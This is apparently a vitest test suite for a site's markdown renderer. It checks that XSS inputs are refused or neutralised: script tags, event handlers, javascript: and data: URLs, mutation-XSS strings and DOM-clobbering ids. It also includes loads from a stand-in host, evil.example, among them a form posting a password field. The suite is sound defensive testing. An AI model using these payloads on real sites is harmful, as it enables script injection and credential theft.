import { fromHtml } from 'hast-util-from-html';
import { visit } from 'unist-util-visit';
import { expect, test } from 'vitest';
import { proseSchema } from '#content/markdown/schema.ts';
import { render } from './rendering.ts';

const SCHEME =
  'expected an address that begins with https://, mailto:, tel:, / or #. Give the link such an address or remove it.';
const RELATIVE =
  'expected an address from the top of the site such as /about/. Begin it with / for this site or with https:// for another.';
const CHARACTERS =
  'expected an address without spaces, control characters or backslashes. Write %20 for a space.';
const BESIDE =
  'expected a picture beside the article such as ./bridge.jpg. Save the picture in the article’s folder and write ./ and its name.';

const paragraph = (html: string): string =>
  `<p id="p1">${html}<a class="anchor" href="#p1" aria-label="Link to paragraph 1"></a></p>`;

const ATTRIBUTES =
  /^(?:id|class|dir|href|lang|open|rel|title|alt|scope|tabindex|aria-label|aria-hidden|aria-describedby|data-picture)$/u;
const IDS = /^(?:h-.+|a-.+|p\d+|(?:figure|table)-\d+|fn-\d+|fnref-\d+(?:-\d+)?|footnote-label)$/u;
const SAFE_PROTOCOLS = new Set(['https:', 'http:', 'mailto:', 'tel:']);

/** What a browser would run, fetch, obey or let shadow a global, as it reads the HTML itself. */
function findHarm(html: string): readonly string[] {
  const harm: string[] = [];
  visit(
    fromHtml(html, { fragment: true, verbose: true }),
    'element',
    ({ tagName, properties, position }) => {
      if (!proseSchema.tagNames?.includes(tagName)) harm.push(`<${tagName}>`);
      const source =
        html.slice(position?.start.offset, position?.end.offset).split('>', 1)[0] ?? '';
      for (const [, name = ''] of source.replaceAll(/"[^"]*"/gu, '""').matchAll(/\s([^\s=]+)=/gu)) {
        if (!ATTRIBUTES.test(name.toLowerCase())) harm.push(`${tagName} ${name}`);
      }
      const { id, href } = properties;
      if (typeof id === 'string' && !IDS.test(id)) harm.push(`#${id}`);
      if (typeof href !== 'string') return;
      const url = new URL(href, 'https://site.example/');
      if (!SAFE_PROTOCOLS.has(url.protocol)) harm.push(href);
    },
  );
  return harm;
}

test('the harm that the following tests look for is found where it is', () => {
  const html =
    '<p onclick="x">a <a href="java&#10;script:x" style="x">b</a></p><script>x</script><h2 id="location">c</h2><img src="x">';
  expect(findHarm(html)).toEqual([
    'p onclick',
    'a style',
    'java\nscript:x',
    '<script>',
    '#location',
    'img src',
  ]);
});

const REFUSED = [
  ['<script>alert(1)</script>', 'script'],
  ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', 'script'],
  ['a <script>alert(1)</script> b', 'script'],
  ['<svg onload=alert(1)></svg>', 'svg'],
  ['<svg><script>alert(1)</script></svg>', 'svg'],
  ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', 'iframe'],
  ['<iframe src="javascript:alert(1)"></iframe>', 'iframe'],
  ['<iframe src="data:text/html,x"></iframe>', 'iframe'],
  ['<video><source onerror=alert(1)></video>', 'video'],
  ['<style>@import "//evil.example/x.css";</style>', 'style'],
  ['<base href="//evil.example/">', 'base'],
  ['<meta http-equiv="refresh" content="0;url=javascript:alert(1)">', 'meta'],
  ['<link rel="stylesheet" href="//evil.example/x.css">', 'link'],
  ['<form action="//evil.example"><input name="password"></form>', 'form'],
  ['<object data="javascript:alert(1)"></object>', 'object'],
  ['<embed src="javascript:alert(1)">', 'embed'],
  ['<template><script>alert(1)</script></template>', 'template'],
  ['<title><img src=x onerror=alert(1)></title>', 'title'],
  ['<textarea><img src=x onerror=alert(1)></textarea>', 'textarea'],
  ['<xmp><img src=x onerror=alert(1)></xmp>', 'xmp'],
  ['<plaintext><img src=x onerror=alert(1)>', 'plaintext'],
  ['<select><option><script>alert(1)</script></select>', 'select'],
  ['<?xml version="1.0"?><script>alert(1)</script>', 'script'],
  ['| <script>alert(1)</script> |\n|---|', 'script'],
  ['<blockquote>x</blockquote><script src="https://evil.example/platform.twitter.com/"></script>', 'script'],
] as const;

test.each(REFUSED)('an element that would do harm is refused: %s', async (markdown, tag) => {
  const { problems, html } = await render(markdown);
  const found = problems.filter(({ kind }) => kind === 'HTML elements that are not shown');
  expect(found.map((one) => one.found.split(' with ')[0])).toEqual([`the element <${tag}>`]);
  expect(findHarm(html)).toEqual([]);
});

test.each([
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<img src=x onerror=alert(1)>',
  'a <img src=x onerror=alert(1)> b',
  '<a href="javascript:alert(1)" onclick="alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<body onload=alert(1)>',
  '<table><tr><td>swallows the rest',
])('HTML that would do harm is refused: %s', async (markdown) => {
  const { problems, html } = await render(markdown);
  expect(problems).not.toEqual([]);
  expect(findHarm(html)).toEqual([]);
});

test.each([
  ['<details open ontoggle=alert(1)>x</details>', `<details open>${paragraph('x')}</details>`],
  ['<p style="background:url(javascript:alert(1))">x</p>', paragraph('x')],
  ['<p id="location" name="cookie">x</p>', paragraph('x')],
  [
    '<a id="location" name="cookie">x</a> <a href="#location">y</a>',
    paragraph('<span id="a-location"></span>x <a href="#a-location">y</a>'),
  ],
  ['<p data-own data-anchor="x" data-paragraph="9" class="footnotes">x</p>', paragraph('x')],
  ['<section data-footnotes class="footnotes"><p>x</p></section>', paragraph('x')],
  ['<sup data-footnote-ref="">x</sup>', paragraph('<sup>x</sup>')],
  [
    '<a href="https://e.org" rel="opener" ping="https://t.example" target="_blank">x</a>',
    paragraph('<a href="https://e.org" rel="external">x</a>'),
  ],
  ['<q cite="javascript:alert(1)">x</q>', paragraph('<q>x</q>')],
  ['<p lang="x&quot; onclick=alert(1)" dir="x">x</p>', paragraph('x')],
])('HTML loses what would do harm: %s', async (markdown, expected) => {
  const { said, html } = await render(markdown);
  expect(said).toEqual([]);
  expect(html).toBe(expected);
  expect(findHarm(html)).toEqual([]);
});

test.each([
  ['[x](javascript:alert(1))', [`a.md:10: found "javascript:alert(1)", ${SCHEME}`]],
  ['[x](JaVaScRiPt:alert(1))', [`a.md:10: found "JaVaScRiPt:alert(1)", ${SCHEME}`]],
  ['[x](j&#97;v&#x61;script&colon;alert(1))', [`a.md:10: found "javascript:alert(1)", ${SCHEME}`]],
  ['[x](javascript&#58;alert(1))', [`a.md:10: found "javascript:alert(1)", ${SCHEME}`]],
  ['[x](java&#10;script:alert(1))', [`a.md:10: found "java script:alert(1)", ${CHARACTERS}`]],
  ['[x](java&Tab;script:alert(1))', [`a.md:10: found "java script:alert(1)", ${CHARACTERS}`]],
  [
    '[x](&#1;javascript:alert(1))',
    [
      'a.md:10: found a character reference that names no character, expected one such as &amp; or &#233;. Write the character itself.',
      `a.md:10: found "�javascript:alert(1)", ${RELATIVE}`,
    ],
  ],
  ['[x](<javascript:alert(1)>)', [`a.md:10: found "javascript:alert(1)", ${SCHEME}`]],
  [
    '[x](javascript://example.org/%0aalert(1))',
    [`a.md:10: found "javascript://example.org/%0aalert(1)", ${SCHEME}`],
  ],
  [
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    [`a.md:10: found "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", ${SCHEME}`],
  ],
  ['[x](vbscript:msgbox(1))', [`a.md:10: found "vbscript:msgbox(1)", ${SCHEME}`]],
  ['[x](file:///etc/passwd)', [`a.md:10: found "file:///etc/passwd", ${SCHEME}`]],
  [
    '[x](view-source:javascript:alert(1))',
    [`a.md:10: found "view-source:javascript:alert(1)", ${SCHEME}`],
  ],
  [
    '[x](//evil.example)',
    [
      `a.md:10: found "//evil.example", expected an address that names https:. Write https: before the slashes.`,
    ],
  ],
  ['[x](/\\\\evil.example)', [`a.md:10: found "/\\evil.example", ${CHARACTERS}`]],
  [
    '[x](https://example.org@evil.example)',
    [
      `a.md:10: found "https://example.org@evil.example", expected an address without a user name or password. Remove what stands before the @.`,
    ],
  ],
  [
    '[x](<java\nscript:alert(1)>)',
    [
      'a.md:10: found "[x](<java", expected [words](address). Complete the link, or write \\[ for the sign itself.',
    ],
  ],
  ['[x](javascript%3Aalert(1))', [`a.md:10: found "javascript%3Aalert(1)", ${RELATIVE}`]],
  ['<javascript:alert(1)>', [`a.md:10: found "javascript:alert(1)", ${SCHEME}`]],
  ['<vbscript:alert(1)>', [`a.md:10: found "vbscript:alert(1)", ${SCHEME}`]],
  ['[x][d]\n\n[d]: javascript:alert(1)', [`a.md:12: found "javascript:alert(1)", ${SCHEME}`]],
  ['[x]\n\n[x]: <data:text/html,x> "title"', [`a.md:12: found "data:text/html,x", ${SCHEME}`]],
  ['![x](javascript:alert(1))', [`a.md:10: found "javascript:alert(1)", ${BESIDE}`]],
  ['![x](data:image/svg+xml,x)', [`a.md:10: found "data:image/svg+xml,x", ${BESIDE}`]],
  [
    '[![x](javascript:alert(1))](javascript:alert(1))',
    [
      `a.md:10: found "javascript:alert(1)", ${SCHEME}`,
      `a.md:10: found "javascript:alert(1)", ${BESIDE}`,
    ],
  ],
])('a harmful address is refused: %s', async (markdown, sentences) => {
  const { said, html } = await render(markdown);
  expect(said).toEqual(sentences);
  expect(findHarm(html)).toEqual([]);
});

test.each([
  [
    '[x](https://example.org "\\" onclick=alert(1) x=\\"")',
    paragraph(
      '<a href="https://example.org" title="&#x22; onclick=alert(1) x=&#x22;" rel="external">x</a>',
    ),
  ],
  [
    '![\\" onerror=alert(1) x=\\"](./x.png "\\" onerror=alert(1)")',
    '<figure id="figure-1"><img data-picture="{&#x22;src&#x22;:&#x22;./x.png&#x22;,&#x22;alt&#x22;:&#x22;\\&#x22; onerror=alert(1) x=\\&#x22;&#x22;}"><figcaption><p class="caption">" onerror=alert(1)</p></figcaption></figure>',
  ],
  [
    '[x](https://example.org/"onclick="alert(1))',
    paragraph('<a href="https://example.org/%22onclick=%22alert(1)" rel="external">x</a>'),
  ],
  ['## location', '<h2 id="h-location">location</h2>'],
  [
    'One[^__proto__]\n\n[^__proto__]: Note.',
    '<p id="p1">One<sup class="footnote"><a id="fnref-1" href="#fn-1" aria-describedby="footnote-label">1</a></sup><a class="anchor" href="#p1" aria-label="Link to paragraph 1"></a></p>\n<section class="footnotes"><h2 id="footnote-label">Footnotes</h2>\n<ol>\n<li id="fn-1">\n<p>Note. <a class="back" href="#fnref-1" aria-label="Back to reference 1"><span aria-hidden="true">↩</span></a></p>\n</li>\n</ol>\n</section>',
  ],
  ['```"><script>alert(1)</script>\nx\n```', '<pre tabindex="0"><code>x\n</code></pre>'],
  ['`<script>alert(1)</script>`', paragraph('<code>&#x3C;script>alert(1)&#x3C;/script></code>')],
  ['\\<script>alert(1)\\</script>', paragraph('&#x3C;script>alert(1)&#x3C;/script>')],
  ['&lt;script&gt;alert(1)&lt;/script&gt;', paragraph('&#x3C;script>alert(1)&#x3C;/script>')],
  [
    '<https://example.org/"onmouseover="alert(1)>',
    paragraph(
      '<a href="https://example.org/%22onmouseover=%22alert(1)" rel="external">https://example.org/"onmouseover="alert(1)</a>',
    ),
  ],
  [
    'www.example.org/"onmouseover="alert(1)',
    paragraph(
      '<a href="http://www.example.org/%22onmouseover=%22alert(1)" rel="external">www.example.org/"onmouseover="alert(1)</a>',
    ),
  ],
])('harmless as it comes out: %s', async (markdown, expected) => {
  const { said, html } = await render(markdown);
  expect(said).toEqual([]);
  expect(html).toBe(expected);
  expect(findHarm(html)).toEqual([]);
});
